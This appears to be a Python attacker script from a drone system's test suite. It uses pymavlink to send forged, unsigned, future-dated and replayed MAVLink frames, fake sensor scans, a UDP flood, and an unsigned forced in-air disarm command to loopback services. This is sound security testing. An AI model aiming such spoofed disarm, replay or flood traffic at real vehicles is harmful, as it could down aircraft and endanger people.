#!/usr/bin/env python3
"""An attacker on the mission's network, written with pymavlink (an independent MAVLink
implementation), for the attack suite in tests/tests/attacks.rs. Loopback only; every loop
is bounded in count and time. Prints one JSON line of what it saw.

  attacker.py uplink --daemon PORT --key K1 --other-key K2    forged, cross-drone, unsigned,
                                                              future and replayed frames; a
                                                              junk byte; who gets answers
  attacker.py replay --daemon PORT --hex FRAME                one captured frame, sent again
  attacker.py scans --ground PORT --fleet-key K               two signed scans, then a forged
                                                              unsigned one stamped 10^12 us
  attacker.py flood --daemon-log FILE --count N --seconds S   zero-byte datagrams to the
                                                              daemon's uplink port (read from
                                                              its log once it has started)
  attacker.py disarm --autopilot PORT --key K --system ID     an unsigned disarm, then a signed
                                                              one, to a signing autopilot
"""

import argparse
import json
import os
import re
import socket
import sys
import time

os.environ.setdefault("MAVLINK20", "1")
from pymavlink.dialects.v20 import common as mavlink2  # noqa: E402

GROUND = (255, 190)
EPOCH_2015 = 1420070400


def now_stamp():
    """MAVLink signing time: 10 us units since 2015-01-01."""
    return int((time.time() - EPOCH_2015) * 1e5)


def read_key(path):
    data = open(path, "rb").read()
    if len(data) == 32:
        return data
    return bytes.fromhex(data.decode().strip())


def encoder(system, component, key=None, stamp=None, link_id=0):
    m = mavlink2.MAVLink(None, srcSystem=system, srcComponent=component)
    if key is not None:
        m.signing.secret_key = key
        m.signing.link_id = link_id
        m.signing.timestamp = stamp if stamp is not None else now_stamp()
        m.signing.sign_outgoing = True
    return m


def tunnel(m, target=1):
    """An uplink TUNNEL to drone `target` (payload type 0, three bytes)."""
    payload = [7, 7, 7] + [0] * 125
    return m.tunnel_encode(target, 191, 0, 3, payload).pack(m)


def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    s.settimeout(0.05)
    return s


def parser(key=None):
    """A MAVLink 2 parser that verifies signatures under `key` when one is given."""
    p = mavlink2.MAVLink(None)
    p.robust_parsing = True
    if key is not None:
        p.signing.secret_key = key
    return p


def receive(sock, seconds, key=None):
    """Every datagram that arrives within `seconds`, and the messages parsed from them
    (signatures verified when a key is given)."""
    parser_ = parser(key)
    datagrams, messages = 0, []
    end = time.time() + seconds
    while time.time() < end:
        try:
            data, _ = sock.recvfrom(4096)
        except socket.timeout:
            continue
        datagrams += 1
        messages.extend(parser_.parse_buffer(data) or [])
    return datagrams, messages


def drain(sock, seconds, key=None):
    """Datagrams received within `seconds`, and the HEARTBEATs among them."""
    datagrams, messages = receive(sock, seconds, key)
    return datagrams, sum(1 for m in messages if m.get_type() == "HEARTBEAT")


def cmd_uplink(a):
    daemon = ("127.0.0.1", a.daemon)
    key, other = read_key(a.key), read_key(a.other_key)
    ground, attacker = udp(), udp()
    sent = {}
    # Row 6: one junk byte from the attacker, before the ground has said anything.
    attacker.sendto(b"\x00", daemon)
    # Rows 1 and 5: signed for another drone (its own key), unsigned, and wrongly signed.
    attacker.sendto(tunnel(encoder(*GROUND, key=other)), daemon)
    attacker.sendto(tunnel(encoder(*GROUND)), daemon)
    attacker.sendto(tunnel(encoder(*GROUND, key=bytes(32))), daemon)
    # Row 5: a frame with the right key dated a year ahead (a stolen clock, a skewed ground).
    year = now_stamp() + 365 * 86400 * 100000
    attacker.sendto(tunnel(encoder(*GROUND, key=key, stamp=year)), daemon)
    time.sleep(0.3)
    silent_before = drain(attacker, 1.2)[0]
    # The real ground speaks once; its frame is captured by the attacker and replayed.
    genuine = tunnel(encoder(*GROUND, key=key))
    ground.sendto(genuine, daemon)
    time.sleep(0.2)
    attacker.sendto(genuine, daemon)
    attacker.sendto(b"\x01", daemon)
    ground_datagrams, ground_heartbeats = drain(ground, 2.5, key)
    attacker_datagrams, _ = drain(attacker, 0.1)
    sent["replay_hex"] = genuine.hex()
    print(
        json.dumps(
            {
                "attacker_datagrams_before_ground": silent_before,
                "ground_datagrams": ground_datagrams,
                "ground_heartbeats": ground_heartbeats,
                "attacker_datagrams": attacker_datagrams,
                **sent,
            }
        )
    )


def cmd_replay(a):
    s = udp()
    s.sendto(bytes.fromhex(a.hex), ("127.0.0.1", a.daemon))
    print(json.dumps({"replayed": len(a.hex) // 2}))


def scan(m, t_s, detections):
    t_us = int(t_s * 1e6)
    frames = [m.debug_vect_encode(b"det", t_us, x, y, 0.0).pack(m) for x, y in detections]
    frames.append(m.debug_vect_encode(b"det_end", t_us, float(len(detections)), 0.0, 0.0).pack(m))
    return frames


def cmd_scans(a):
    ground = ("127.0.0.1", a.ground)
    sensor = encoder(200, 1, key=read_key(a.fleet_key), link_id=2)
    s = udp()
    for t in (0.1, 0.2):
        for frame in scan(sensor, t, [(2.0, 2.0), (2.5, 2.0)]):
            s.sendto(frame, ground)
        time.sleep(0.1)
    # Row 2: unsigned, from a foreign system id, stamped 10^12 us.
    forged = encoder(77, 1)
    for frame in scan(forged, 1e6, [(5.0, 5.0)]):
        s.sendto(frame, ground)
    print(json.dumps({"signed_scans": 2, "forged_scans": 1}))


def cmd_flood(a):
    deadline = time.time() + 30
    port = None
    while port is None and time.time() < deadline:
        try:
            text = open(a.daemon_log).read()
        except OSError:
            text = ""
        found = re.search(r"ground udpin:127\.0\.0\.1:\d+ \(127\.0\.0\.1:(\d+)\)", text)
        if found:
            port = int(found.group(1))
        else:
            time.sleep(0.01)
    if port is None:
        print(json.dumps({"error": "no port in the daemon log"}))
        return 1
    s = udp()
    gap = a.seconds / a.count
    for _ in range(a.count):
        try:
            s.sendto(b"", ("127.0.0.1", port))
        except OSError:
            pass
        time.sleep(gap)
    print(json.dumps({"port": port, "sent": a.count}))
    return 0


def cmd_disarm(a):
    target = ("127.0.0.1", a.autopilot)
    s = udp()
    key = read_key(a.key)
    # The key holder arms the vehicle: acknowledged.
    owner = encoder(255, 190, key=key, link_id=1)
    s.sendto(owner.command_long_encode(a.system, 1, 400, 0, 1, 0, 0, 0, 0, 0, 0).pack(owner), target)
    acks_signed = count_acks(s, 1.0, key)
    # Row 4: an unsigned disarm from a foreign system, forced (param 2 = 21196, as PX4 takes
    # a forced disarm in the air).
    foreign = encoder(77, 1)
    for _ in range(3):
        s.sendto(
            foreign.command_long_encode(a.system, 1, 400, 0, 0, 21196, 0, 0, 0, 0, 0).pack(foreign),
            target,
        )
    acks_unsigned = count_acks(s, 1.0, key)
    print(json.dumps({"acks_to_signed_arm": acks_signed, "acks_to_unsigned_disarm": acks_unsigned}))


def count_acks(sock, seconds, key=None):
    """The results of the COMMAND_ACKs received within `seconds`."""
    _, messages = receive(sock, seconds, key)
    return [m.result for m in messages if m.get_type() == "COMMAND_ACK"]


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    u = sub.add_parser("uplink")
    u.add_argument("--daemon", type=int, required=True)
    u.add_argument("--key", required=True)
    u.add_argument("--other-key", required=True)
    r = sub.add_parser("replay")
    r.add_argument("--daemon", type=int, required=True)
    r.add_argument("--hex", required=True)
    sc = sub.add_parser("scans")
    sc.add_argument("--ground", type=int, required=True)
    sc.add_argument("--fleet-key", required=True)
    f = sub.add_parser("flood")
    f.add_argument("--daemon-log", required=True)
    f.add_argument("--count", type=int, default=8000)
    f.add_argument("--seconds", type=float, default=8.0)
    d = sub.add_parser("disarm")
    d.add_argument("--autopilot", type=int, required=True)
    d.add_argument("--key", required=True)
    d.add_argument("--system", type=int, default=1)
    a = p.parse_args()
    return {
        "uplink": cmd_uplink,
        "replay": cmd_replay,
        "scans": cmd_scans,
        "flood": cmd_flood,
        "disarm": cmd_disarm,
    }[a.cmd](a) or 0


if __name__ == "__main__":
    sys.exit(main())
